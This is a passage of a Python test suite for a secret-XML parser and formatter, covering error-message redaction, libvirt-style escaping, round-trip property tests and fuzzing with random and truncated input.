def test_validate_accepts(xml: str) -> None:
    assert parse_secret_xml(xml, validate=True) is not None


def test_schema_errors_do_not_echo_values() -> None:
    for xml in (doc(f"<uuid>{MARK}</uuid>"), doc(usage("ceph", "name", f"{MARK}/x")),
                doc(attrs=f" ephemeral='{MARK}'"), doc(usage(MARK, "name"))):
        err = raises(errors.XMLInvalidSchema, xml, validate=True)
        assert MARK not in err.message


def test_schema_error_lines_redact_quoted_values() -> None:
    from secretbus.core.secretxml import _schema_error_line
    assert _schema_error_line(f"Type string doesn't allow value '{MARK}'\n") == \
        "Type string doesn't allow value '...'\n"
    assert _schema_error_line(f"Value '{MARK}'s x' is bad") == "Value '...' is bad\n"
    assert _schema_error_line("Extra element uuid in interleave") == \
        "Extra element uuid in interleave\n"


def test_validate_runs_after_root_check_and_before_field_checks() -> None:
    raises(errors.XMLRootError, "<secrets/>", "expecting root element of 'secret', not 'secrets'",
           validate=True)
    raises(errors.XMLDetail, "<secret", validate=True)
    raises(errors.XMLInvalidSchema, doc(attrs=" ephemeral='maybe'"), validate=True)
    # Without the flag the lenient parser accepts what the schema refuses.
    for name in ("relative-volume", "name-with-slash", "usage-none", "uuid-spaces",
                 "duplicate-uuid", "unknown-element"):
        parse_secret_xml(INVALID[name])


# ---------------------------------------------------------------------------
# formatting


def test_format_escapes_like_libvirt() -> None:
    d = SecretDef(uuid=UUID, description="<a&b> 'q' \"d\"\t\n\r",
                  usage_type=UsageType.CEPH, usage_id="x&y<z>")
    out = format_secret_xml(d)
    assert "<description>&lt;a&amp;b&gt; &apos;q&apos; &quot;d&quot;\t\n&#13;</description>" in out
    assert "<name>x&amp;y&lt;z&gt;</name>" in out
    assert parse_secret_xml(out) == d


@given(st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=())))
def test_escape_text_fast_path_changes_nothing(text: str) -> None:
    # escape_text returns a text unchanged when its search finds nothing to change: the same
    # as escaping character by character, whatever the text holds (surrogates included).
    from secretbus.core.secretxml import _ESCAPES, _xml_char
    assert escape_text(text) == "".join(_ESCAPES.get(c, c) for c in text if _xml_char(c))


@pytest.mark.parametrize("c", ["&", "<", ">", '"', "'", "\r", "\x00", "\x08", "\x0b", "\x0c", "\x0e",
                               "\x1f", "\ud800", "\udfff", "\ufffe", "\uffff"])
def test_escape_text_sees_each_changed_character(c: str) -> None:
    assert escape_text(f"a{c}b") != f"a{c}b"


def test_format_drops_characters_xml_cannot_carry() -> None:
    assert escape_text("a\x00b\x01c\x1fd\ud800e\ufffef\uffffg\U0001f600") == "abcdefg\U0001f600"
    d = SecretDef(uuid=UUID, description="\x01\x02")
    assert "description" not in format_secret_xml(d)


def test_format_normalises_uuid_and_handles_edge_defs() -> None:
    d = SecretDef(uuid=UUID.upper(), description="", usage_type=UsageType.NONE, usage_id="x")
    assert format_secret_xml(d) == format_secret_xml(SecretDef(uuid=UUID))
    with pytest.raises(errors.InternalError, match="^malformed uuid element$"):
        format_secret_xml(SecretDef(uuid="nope"))


@pytest.mark.parametrize("usage_type", [u for u in UsageType if u is not UsageType.NONE])
@pytest.mark.parametrize("usage_id", [None, "", "\x01"])
def test_format_refuses_usage_without_id(usage_type: UsageType, usage_id: str | None) -> None:
    with pytest.raises(errors.InternalError, match="usage specified, but"):
        format_secret_xml(SecretDef(uuid=UUID, usage_type=usage_type, usage_id=usage_id))


# ---------------------------------------------------------------------------
# properties


def _is_xml_char(c: str) -> bool:
    o = ord(c)
    return o in (0x9, 0xA, 0xD) or 0x20 <= o <= 0xD7FF or 0xE000 <= o <= 0xFFFD or o >= 0x10000


XML_CHAR = st.one_of(
    st.sampled_from(list("\t\n\r &<>'\"]]>;#x")),
    st.characters(min_codepoint=0x20, max_codepoint=0x7E),
    st.characters(min_codepoint=0x80, max_codepoint=0xD7FF),
    st.characters(min_codepoint=0xE000, max_codepoint=0xFFFD),
    st.characters(min_codepoint=0x10000, max_codepoint=0x10FFFF),
)
XML_TEXT = st.text(alphabet=XML_CHAR, min_size=1, max_size=30)


@st.composite
def secret_defs(draw: st.DrawFn) -> SecretDef:
    kind = draw(st.sampled_from(list(UsageType)))
    return SecretDef(
        uuid=str(draw(st.uuids())),
        ephemeral=draw(st.booleans()),
        private=draw(st.booleans()),
        description=draw(st.none() | XML_TEXT),
        usage_type=kind,
        usage_id=None if kind is UsageType.NONE else draw(XML_TEXT),
    )


@FAST
@given(secret_defs())
def test_property_format_parse_round_trip(d: SecretDef) -> None:
    out = format_secret_xml(d)
    assert parse_secret_xml(out) == d
    assert parse_secret_xml(out.encode()) == d
    assert format_secret_xml(parse_secret_xml(out)) == out


def _schema_ok(d: SecretDef) -> bool:
    """Whether the schema should accept d's formatted XML (spec §1.4 patterns)."""
    if d.usage_type is UsageType.NONE:
        return True
    uid = d.usage_id or ""
    if d.usage_type is UsageType.VOLUME:
        return re.fullmatch(r"(/|[a-zA-Z]:\\)[^\n\r]+", uid) is not None
    return "/" not in uid and "\n" not in uid


@FAST
@given(secret_defs())
def test_property_schema_agrees_with_patterns(d: SecretDef) -> None:
    out = format_secret_xml(d)
    if _schema_ok(d):
        assert parse_secret_xml(out, validate=True) == d
    else:
        with pytest.raises(errors.XMLInvalidSchema):
            parse_secret_xml(out, validate=True)


def _encode_messy(draw: st.DrawFn, text: str) -> tuple[str, str]:
    """Write `text` the way a hand-made document might; return (xml, what libxml2 reads)."""
    out: list[str] = []
    raw_flags = [draw(st.booleans()) for _ in text]
    expect: list[str] = []
    for i, c in enumerate(text):
        if raw_flags[i]:
            out.append({"&": "&amp;", "<": "&lt;"}.get(c, c))
            if c == "\r":   # libxml2: raw CR LF -> LF, lone raw CR -> LF
                nxt_raw_lf = i + 1 < len(text) and text[i + 1] == "\n" and raw_flags[i + 1]
                expect.append("" if nxt_raw_lf else "\n")
            else:
                expect.append(c)
        else:
            out.append(f"&#{ord(c)};" if draw(st.booleans()) else f"&#x{ord(c):X};")
            expect.append(c)
        if draw(st.integers(0, 9)) == 0:
            out.append(draw(st.sampled_from(["<!-- c -->", "<?pi x?>", "<![CDATA[]]>"])))
    return "".join(out), "".join(expect)


LENIENT_UUIDS = [
    lambda u: u, lambda u: u.upper(), lambda u: u.replace("-", ""),
    lambda u: " " + u + "\n", lambda u: " ".join(re.findall("..", u.replace("-", ""))),
]


@st.composite
def messy_documents(draw: st.DrawFn) -> tuple[str, SecretDef]:
    """A document in any order/quoting with references and comments, plus what it means."""
    d = draw(secret_defs())
    q = draw(st.sampled_from(["'", '"']))
    attrs = [f" ephemeral={q}{'yes' if d.ephemeral else 'no'}{q}",
             f" private={q}{'yes' if d.private else 'no'}{q}", f" unknown={q}1{q}"]
    attrs = draw(st.permutations(attrs))
    uuid_text = draw(st.sampled_from(LENIENT_UUIDS))(d.uuid)
    parts = [f"<uuid>{uuid_text}</uuid>", "<other>ignored</other>"]
    description = d.description
    if d.description is not None:
        xml, description = _encode_messy(draw, d.description)
        parts.append(f"<description>{xml}</description>")
    usage_id = d.usage_id
    if d.usage_type is not UsageType.NONE:
        xml, usage_id = _encode_messy(draw, d.usage_id or "")
        child = d.usage_type.child
        parts.append(f"<usage type={q}{d.usage_type.xml_name}{q}>\n<{child}>{xml}</{child}></usage>")
    body = "\n  ".join(draw(st.permutations(parts)))
    expected = SecretDef(uuid=d.uuid, ephemeral=d.ephemeral, private=d.private,
                         description=description, usage_type=d.usage_type, usage_id=usage_id)
    return f"<secret{''.join(attrs)}>\n  {body}\n</secret>\r\n", expected


@FAST
@given(messy_documents())
def test_property_messy_documents_reach_a_fixed_point(case: tuple[str, SecretDef]) -> None:
    xml, expected = case
    d = parse_secret_xml(xml)
    assert d == expected
    out = format_secret_xml(d)
    assert parse_secret_xml(out) == d
    assert format_secret_xml(parse_secret_xml(out)) == out


def _only_secret_errors(data: str | bytes, validate: bool = False) -> None:
    try:
        d = parse_secret_xml(data, validate=validate)
    except errors.SecretError as exc:
        assert isinstance(exc.message, str)
        return
    # Whatever parses must also format and re-parse to itself.
    assert parse_secret_xml(format_secret_xml(d)) == d


@FAST
@given(st.binary(max_size=400), st.booleans())
def test_property_random_bytes(data: bytes, validate: bool) -> None:
    _only_secret_errors(data, validate)


@FAST
@given(st.text(max_size=400), st.booleans())
def test_property_random_text(data: str, validate: bool) -> None:
    _only_secret_errors(data, validate)


@FAST
@given(st.sampled_from(FIXTURE_ROUND_TRIP + FIXTURE_STALE), st.data())
def test_property_mutated_documents(path: Path, data: st.DataObject) -> None:
    raw = path.read_bytes()
    start = data.draw(st.integers(0, len(raw)))
    end = data.draw(st.integers(start, len(raw)))
    junk = data.draw(st.binary(max_size=20) | st.sampled_from(
        [b"<", b"&", b"&amp;", b"<!DOCTYPE x>", b"]]>", b"\r", b"\x00", b"\xff", b"'", b"/>"]))
    _only_secret_errors(raw[:start] + junk + raw[end:], data.draw(st.booleans()))


@pytest.mark.parametrize("path", FIXTURE_ROUND_TRIP + FIXTURE_STALE, ids=_id)
def test_every_truncation_only_secret_errors(path: Path) -> None:
    raw = path.read_bytes()
    for cut in range(len(raw)):
        for chunk in (raw[:cut], raw[cut:]):
            _only_secret_errors(chunk)
            _only_secret_errors(chunk.decode("utf-8", "replace"), validate=True)
